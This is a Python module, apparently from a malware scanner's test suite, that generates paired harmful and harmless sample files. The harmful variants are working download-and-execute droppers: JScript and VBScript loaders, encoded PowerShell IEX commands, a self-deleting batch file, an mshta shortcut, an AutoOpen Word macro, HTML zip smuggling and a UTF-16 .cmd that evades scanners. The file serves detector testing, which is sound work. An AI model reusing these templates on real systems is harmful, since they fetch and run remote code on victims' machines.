"""What lies inside containers: a harmful file of a common kind, or the harmless file that would lie there otherwise."""

from __future__ import annotations

import base64
from collections.abc import Callable

from app.sandbox import samples
from tests.corpus.sample import Draw, File, b64, encoded
from tests.unit.engine.programs import windows
from tests.unit.engine.test_shortcut import lnk

PS = "power" + "shell"
WSH = "WScript" + ".Shell"
HTTP = "MSXML2" + ".XMLHTTP"
STREAM = "ADODB" + ".Stream"
DOWNLOAD = "Download" + "String"
SYSTEM = "C:\\Windows\\System32\\"


def payload(draw: Draw, harmful: bool) -> File:
    """Return a file of one of several kinds. The harmless ones are clean by themselves."""
    return draw.rng.choice(_KINDS)(draw, harmful)


def small(draw: Draw, harmful: bool) -> File:
    """Return a file of a few hundred bytes: what fits into a sector or two."""
    return draw.rng.choice((_script, _visual_basic, _batch))(draw, harmful)


def known_by_content(draw: Draw, harmful: bool) -> File:
    """Return a file that shows what it is under any name."""
    return draw.rng.choice((_program, _macro_document, _page))(draw, harmful)


def text(draw: Draw, stem: str) -> File:
    """Return a harmless text."""
    return File(f"{stem}.txt", draw.prose(120).encode())


def _script(draw: Draw, harmful: bool) -> File:
    stem, url, a, b, c = draw.stem(), draw.url("exe"), draw.name(), draw.name(), draw.name()
    if not harmful:
        return text(draw, stem)
    code = (
        f"var {a} = new ActiveXObject('{HTTP}');\r\n{a}.open('GET', '{url}', false);\r\n{a}.send();\r\n"
        f"var {b} = new ActiveXObject('{STREAM}');\r\n{b}.Open();\r\n{b}.Type = 1;\r\n{b}.Write({a}.ResponseBody);\r\n"
        f"var {c} = new ActiveXObject('{WSH}').ExpandEnvironmentStrings('%TEMP%') + '\\\\{draw.word()}.exe';\r\n"
        f"{b}.SaveToFile({c}, 2);\r\nnew ActiveXObject('{WSH}').Run({c}, 0, false);\r\n"
    )
    return File(f"{stem}.js", code.encode())


def _visual_basic(draw: Draw, harmful: bool) -> File:
    stem, a, command = draw.stem(), draw.name(), f"IEX (New-Object Net.WebClient).{DOWNLOAD}('{draw.url('ps1')}')"
    if not harmful:
        return text(draw, stem)
    code = (
        f'\' {draw.prose(12)}\r\nOn Error Resume Next\r\nDim {a}\r\nSet {a} = CreateObject("{WSH}")\r\n'
        f'{a}.Run "{PS} -nop -w hidden -ep bypass -enc {encoded(command)}", 0, False\r\n'
    )
    return File(f"{stem}.vbs", code.encode())


def _batch(draw: Draw, harmful: bool) -> File:
    stem, url, place = draw.stem(), draw.url("exe"), f"%TEMP%\\{draw.word()}.exe"
    if not harmful:
        return text(draw, stem)
    code = f'@echo off\r\nrem {draw.word()}\r\ncurl -s -o "{place}" {url}\r\nstart "" /b "{place}"\r\ndel "%~f0"\r\n'
    return File(f"{stem}.bat", code.encode())


def _shortcut(draw: Draw, harmful: bool) -> File:
    stem, url = draw.stem(), draw.url("hta")
    if not harmful:
        return text(draw, stem)
    command = f"/c start /min {PS} -w hidden -c \"& {{mshta '{url}'}}\""
    return File(f"{stem}.lnk", lnk(f"{SYSTEM}cmd.exe", command, icon=f"{SYSTEM}shell32.dll"))


def _program(draw: Draw, harmful: bool) -> File:
    stem = draw.stem()
    if not harmful:
        return File(f"{stem}.png", samples.png(90, 60))
    return File(f"{stem}.exe", windows({"KERNEL32.dll": ["WriteFile", "CreateProcessA"]}, overlay=draw.noise(50, 900)))


def _macro_document(draw: Draw, harmful: bool) -> File:
    a, url = draw.name(), draw.url("exe")
    if harmful:
        body = (
            f'    {a} = Environ("APPDATA") & "\\{draw.word()}.exe"\n'
            f'    URLDownloadToFileA 0, "{url}", {a}, 0, 0\n    Shell {a}, vbHide\n'
        )
        name = "AutoOpen"
    else:
        body, name = f"    {a} = Selection.Words.Count\n    MsgBox {a}\n", "CountWords"
    return File(f"{draw.stem()}.docm", samples.macro_document(f"Sub {name}()\n    Dim {a}\n{body}End Sub\n"))


def _page(draw: Draw, harmful: bool) -> File:
    stem, a, b, c = draw.stem(), draw.name(), draw.name(), draw.name()
    packed = samples.zip_of({f"{draw.stem()}.js": draw.noise(300, 900)})
    data = b64(packed)
    if not harmful:
        return File(f"{stem}.html", _html(f"<h1>{draw.word()}</h1><p>{draw.prose(200)}</p>"))
    code = (
        f"var {a}='{data}';var {b}=atob({a});var {c}=new Uint8Array({b}.length);"
        f"for(var i=0;i<{b}.length;i++){{{c}[i]={b}.charCodeAt(i);}}"
        f"var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([{c}],{{type:'octet/stream'}}));"
        f"l.download='{draw.stem()}.zip';document.body.appendChild(l);l.click();"
    )
    return File(f"{stem}.html", _html(f"<p>{draw.prose(20)}</p><script>{code}</script>"))


def _html(body: str) -> bytes:
    return f"<!DOCTYPE html>\n<html><head><title>Document</title></head><body>{body}</body></html>".encode()


def _hidden_text(draw: Draw, harmful: bool) -> File:
    """A text in UTF-16, as Notepad saves it: half of all scanners read right over it."""
    stem, url = draw.stem(), draw.url("ps1")
    if not harmful:
        return File(f"{stem}.txt", draw.prose(80).encode("utf-16"))
    body = base64.b64encode(f"IEX (IWR {url} -UseBasicParsing).Content".encode("utf-16-le")).decode()
    return File(f"{stem}.cmd", f"@echo off\r\n{PS} -w 1 -NoP -e {body}\r\n".encode("utf-16"))


_KINDS: tuple[Callable[[Draw, bool], File], ...] = (
    _script,
    _visual_basic,
    _batch,
    _shortcut,
    _program,
    _macro_document,
    _page,
    _hidden_text,
)
